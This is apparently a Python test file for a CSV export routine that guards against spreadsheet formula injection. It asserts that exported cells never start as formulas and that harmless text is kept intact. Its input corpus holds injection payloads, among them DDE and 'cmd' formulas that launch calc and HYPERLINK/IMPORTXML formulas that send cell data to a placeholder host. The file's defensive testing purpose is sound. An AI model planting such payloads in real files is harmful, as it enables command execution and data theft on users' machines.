"""A table for a spreadsheet holds text and nothing that runs, whatever was typed (T21). No spreadsheet is at hand here, so
the file is read back as any program reads it, and each cell is held to the rule."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as some

from fgc.kit.table import as_csv, defused

CORPUS = (
    "=1+1", "+44 7700 900101", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", "  =1+1", " \t =1+1",
    "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "\u3000＝1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"Press")', '=IMPORTXML("http://evil.example","//a")',
    '=DDE("cmd";"/C calc";"x")', '";=1+1;"', 'a",=1+1', '","=1+1', "x\r\n=1+1", "=\n1", "@@", "=", "-", "+", "@",
    "\x0b=1", "\x0c=1", "\x1f=1", "\x85=1", "\u2028=1",
)  # fmt: skip
HARMLESS = (
    "Nazdar",
    "7 Rose Hill",
    "a = b",
    "1-2",
    "me@example.org",
    "",
    "O'Neil",
    "‑ a dash that is not one",
    "شیرین",
)
RUNS = re.compile(r"\s*[=+\-@＝＋－＠]|[ ]*[\t\r\n\0]")


def read(kept: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(kept.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", CORPUS)
def test_no_cell_begins_as_a_formula_does(text: str) -> None:
    for separator in (",", ";", "\t"):
        kept = as_csv(["a", text], [[text, "b"], ["c", f"{text}{separator}{text}"]])
        cells = [cell for row in read(kept) for cell in row]
        assert [cell for cell in cells if RUNS.match(cell)] == []
        assert len(cells) == 6


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_harmless_stays_as_it_was_written(text: str) -> None:
    assert read(as_csv(["a"], [[text]])) == [["a"], [text]]


@given(some.lists(some.text(max_size=12), min_size=1, max_size=4))
def test_every_cell_comes_back_as_it_was_or_with_an_apostrophe(row: list[str]) -> None:
    (back,) = read(as_csv([""] * len(row), [row]))[1:]
    for before, after in zip(row, back, strict=True):
        assert after in (before, f"'{before}")
        assert not RUNS.match(after)
        assert defused(after) == after


def test_every_cell_is_in_quotes_and_the_file_says_that_it_is_utf_8() -> None:
    kept = as_csv(["Name"], [["Zoë"], ['She said "no"']])
    assert kept == b'\xef\xbb\xbf"Name"\r\n"Zo\xc3\xab"\r\n"She said ""no"""\r\n'
